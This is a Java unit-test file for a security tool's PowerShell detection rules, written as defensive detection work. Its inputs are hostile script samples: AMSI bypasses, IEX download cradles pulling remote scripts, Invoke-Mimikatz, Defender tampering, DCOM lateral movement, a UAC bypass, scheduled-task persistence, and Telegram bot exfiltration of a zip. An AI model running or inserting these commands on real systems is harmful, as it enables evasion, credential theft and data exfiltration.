package io.cybershield.shield.gateway.triage.rules;

import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Set;

import static io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL;
import static io.cybershield.shield.gateway.triage.rules.ShippedRules.fired;
import static io.cybershield.shield.gateway.triage.rules.ShippedRules.firedAlone;
import static org.assertj.core.api.Assertions.assertThat;

/** PowerShell 4104 script blocks and 400/800 engine events. */
class PowerShellRulesTest {

  private static String scriptBlock(String text) {
    return "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        + "<Provider Name='Microsoft-Windows-PowerShell'/><EventID>4104</EventID>"
        + "<Channel>Microsoft-Windows-PowerShell/Operational</Channel><Computer>WS-7</Computer></System>"
        + "<EventData><Data Name='MessageNumber'>1</Data><Data Name='ScriptBlockText'>" + text
        + "</Data></EventData></Event>";
  }

  @Test
  void amsiBypassPlainAndSplit() {
    assertThat(firedAlone(POWERSHELL, scriptBlock(
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed',"
            + "'NonPublic,Static').SetValue($null,$true)"))).contains("shield-ps-evasion-001");
    assertThat(firedAlone(POWERSHELL, scriptBlock(
        "$a='Ams'+'iUtils'; [Ref].Assembly.GetType('System.Management.Automation.'+$a)")))
        .contains("shield-ps-evasion-001");
  }

  @Test
  void downloadCradleInAScriptBlockAndInSplunkForm() {
    assertThat(firedAlone(POWERSHELL, scriptBlock(
        "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')")))
        .contains("shield-ps-exec-001");
    assertThat(firedAlone(POWERSHELL, "LogName=Microsoft-Windows-PowerShell/Operational EventCode=4104 "
        + "Message=Creating Scriptblock text (1 of 1): iwr http://198.51.100.9/b.ps1 -UseBasicParsing | iex"))
        .isNotEmpty();
  }

  @Test
  void scriptBlockRulesAlsoReadTheSplunkTextRendering() {
    assertThat(firedAlone(POWERSHELL, "LogName=Microsoft-Windows-PowerShell/Operational EventCode=4104 ComputerName=WS1 "
        + "Message=Creating Scriptblock text (1 of 1): Get-ADComputer -Filter * -Properties * | Export-Csv "
        + "C:\\Users\\Public\\pcs.csv ScriptBlock ID: 1234")).contains("shield-ps-disc-003");
  }

  @Test
  void mimikatzLoadedInMemory() {
    assertThat(firedAlone(POWERSHELL, scriptBlock("Invoke-Mimikatz -Command '\"sekurlsa::logonpasswords\"'")))
        .contains("shield-ps-cred-001");
  }

  @Test
  void managementScriptsWithExecutionPolicyBypassAreNotFlagged() {
    List<Set<String>> benign = fired(POWERSHELL,
        "LogName=Windows PowerShell EventCode=400 Message=Engine state is changed from None to Available. "
            + "HostApplication=powershell.exe -ExecutionPolicy Bypass -File C:\\Windows\\CCM\\SystemTemp\\a.ps1 "
            + "EngineVersion=5.1.19041.1",
        scriptBlock("Get-Service -Name Spooler | Restart-Service -Force"),
        scriptBlock("Get-ChildItem C:\\Logs -Filter *.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-30)"
            + " | Remove-Item"),
        scriptBlock("Import-Module ActiveDirectory; Get-ADUser -Identity jdoe -Properties LastLogonDate"));
    assertThat(benign).allMatch(Set::isEmpty);
  }

  // ---------------------------------------------------------------- round 2 (lines written here)

  private static String block(String script) {
    return "{\"winlog\":{\"channel\":\"Microsoft-Windows-PowerShell/Operational\",\"event_id\":\"4104\","
        + "\"provider_name\":\"Microsoft-Windows-PowerShell\",\"computer_name\":\"ws-17.example.org\","
        + "\"event_data\":{\"ScriptBlockText\":\"" + script.replace("\\", "\\\\").replace("\"", "\\\"") + "\"}}}";
  }

  @Test
  void defenderAliasesDcomAndKeyHunting() {
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("Set-MpPreference -dioavp $true -drtm $true")))
        .contains("shield-ps-evasion-003");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("$o=[activator]::CreateInstance([type]::GetTypeFromProgID("
        + "'ShellWindows','192.0.2.31'));$o.Item().Document.Application.ShellExecute('cmd.exe','/c whoami','',$null,0)")))
        .contains("shield-ps-lateral-002");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("gci C:\\Users -Recurse -Include *.pfx,*.kdbx -ea 0")))
        .contains("shield-ps-cred-006");
  }

  @Test
  void amsiReachedByWildcardReflection() {
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("$t=[Ref].Assembly.GetTypes()|?{$_.Name -like '*siUtils'};"
        + "$f=$t.GetFields('NonPublic,Static')|?{$_.Name -like '*Context'};[Runtime.InteropServices.Marshal]::Copy("
        + "[Int32[]]@(0),0,$f.GetValue($null),1)"))).contains("shield-ps-evasion-008");
  }

  @Test
  void ordinaryReflectionAndCertificateListingStayQuiet() {
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("Get-ChildItem Cert:\\LocalMachine\\My | Select Subject, NotAfter")))
        .isEmpty();
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("Set-MpPreference -SignatureUpdateInterval 4"))).isEmpty();
  }

  @Test
  void installFromTheInternalRepositoryIsQuietButRunningItInMemoryIsNot() {
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("Invoke-WebRequest -Uri https://pkg.example.internal/agent.msi "
        + "-OutFile C:\\Temp\\agent.msi; Start-Process msiexec.exe -ArgumentList '/i C:\\Temp\\agent.msi /qn' -Wait")))
        .doesNotContain("shield-ps-exec-001");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("IEX (New-Object Net.WebClient).DownloadString("
        + "'http://10.20.30.40/s.ps1')"))).contains("shield-ps-exec-001");
  }

  @Test
  void hiddenDownloadIntoThePublicFolder() {
    String moduleLog = "{\"Channel\":\"Microsoft-Windows-PowerShell/Operational\",\"EventID\":4103,\"SourceName\":"
        + "\"Microsoft-Windows-PowerShell\",\"Hostname\":\"ws-17.example.org\",\"Payload\":\"CommandInvocation("
        + "Start-BitsTransfer): \\\"Start-BitsTransfer\\\" ParameterBinding(Start-BitsTransfer): name=\\\"Source\\\"; "
        + "value=\\\"https://files.example.net/p.bin\\\"\",\"HostApplication\":\"powershell.exe -nop -win hid -c x\"}";
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, moduleLog)).contains("shield-ps-c2-010");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("Invoke-WebRequest http://192.0.2.80/t.zip -OutFile "
        + "C:\\Users\\Public\\t.zip"))).contains("shield-ps-c2-010");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("Invoke-WebRequest https://www.example.com/report.csv -OutFile "
        + "C:\\Reports\\report.csv"))).doesNotContain("shield-ps-c2-010");
  }

  @Test
  void discoveryEscalationAndCollectionInScriptBlocks() {
    assertThat(firedAlone(POWERSHELL, scriptBlock("Get-WmiObject -Namespace root\\SecurityCenter2 -Class AntiVirusProduct")))
        .contains("shield-ps-disc-020");
    assertThat(firedAlone(POWERSHELL, scriptBlock("Get-ADFineGrainedPasswordPolicy -Filter *")))
        .contains("shield-ps-disc-021");
    assertThat(firedAlone(POWERSHELL, scriptBlock("New-Item 'HKCU:\\Software\\Classes\\mscfile\\shell\\open\\command' "
        + "-Force; Start-Process eventvwr.exe"))).contains("shield-ps-privesc-020");
    assertThat(firedAlone(POWERSHELL, scriptBlock("foreach($i in 1..50){$c=New-Object System.Net.Sockets.TcpClient;"
        + "$c.ConnectAsync('192.168.5.'+$i,445).Wait(50)}"))).contains("shield-ps-disc-022");
    assertThat(firedAlone(POWERSHELL, scriptBlock("while($true){Get-Clipboard | Add-Content $env:TEMP\\c.txt;"
        + "Start-Sleep 3}"))).contains("shield-ps-coll-020");
    assertThat(firedAlone(POWERSHELL, scriptBlock("[Tok]::DuplicateTokenEx($h,0x2000000,[IntPtr]::Zero,2,1,[ref]$d)")))
        .contains("shield-ps-privesc-021");
    assertThat(firedAlone(POWERSHELL, scriptBlock("$s=New-Object -ComObject Schedule.Service;$s.Connect();"
        + "$f=$s.GetFolder('\\');$f.RegisterTaskDefinition('Upd',$t,6,$null,$null,3)"))).contains("shield-ps-persist-020");
  }

  @Test
  void ordinaryAdminScriptBlocksStayQuiet() {
    assertThat(firedAlone(POWERSHELL, scriptBlock("Get-Service | Where-Object Status -eq 'Running' | Sort-Object Name")))
        .isEmpty();
    assertThat(firedAlone(POWERSHELL, scriptBlock("Set-Clipboard -Value 'done'"))).isEmpty();
    assertThat(firedAlone(POWERSHELL, scriptBlock("Get-ADDefaultDomainPasswordPolicy | Export-Csv "
        + "D:\\reports\\policy.csv -NoTypeInformation"))).doesNotContain("shield-ps-disc-021");
  }

  @Test
  void documentsStagedAndFormUploadToAChatBot() {
    assertThat(firedAlone(POWERSHELL, scriptBlock("Get-ChildItem E:\\Data -Recurse -Include *.docx,*.pdf | "
        + "Copy-Item -Destination C:\\Temp\\s\\"))).contains("shield-ps-coll-021");
    assertThat(firedAlone(POWERSHELL, scriptBlock("Invoke-RestMethod -Uri 'https://api.telegram.org/bot1/sendDocument' "
        + "-Method Post -Form @{document=Get-Item c:\\temp\\a.zip}"))).contains("shield-ps-exfil-001");
    assertThat(firedAlone(POWERSHELL, scriptBlock("Get-ChildItem E:\\Data -Recurse -Include *.log | Remove-Item")))
        .doesNotContain("shield-ps-coll-021");
  }
}
